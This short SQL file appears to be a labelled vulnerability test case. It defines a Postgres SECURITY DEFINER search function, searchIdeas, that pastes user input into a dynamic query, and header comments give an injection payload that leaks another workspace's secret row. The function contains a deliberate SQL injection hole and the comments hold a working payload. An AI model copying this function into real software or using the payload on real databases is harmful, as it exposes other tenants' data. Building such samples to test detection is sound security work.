-- The dynamic query of the search function is built by pasting, and runs with superuser's rights.
-- about: searchIdeas
-- as: hf_roadmaps_app
-- exploit: SET app.workspace_id = '11111111-1111-1111-1111-111111111111';
-- exploit: SELECT * FROM "searchIdeas"('title', $$%' OR ''='$$);
-- shows: Road-secret idea
-- Search in a column that the user chooses.
CREATE FUNCTION "searchIdeas"(field text, words text) RETURNS TABLE ("id" uuid, "title" text)
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE format('SELECT i."id", i."title" FROM "Idea" i
    WHERE i."workspaceId" = $1 AND i.%I::text ILIKE ''%s''', field, words) USING "currentWorkspace"();
END
$$;
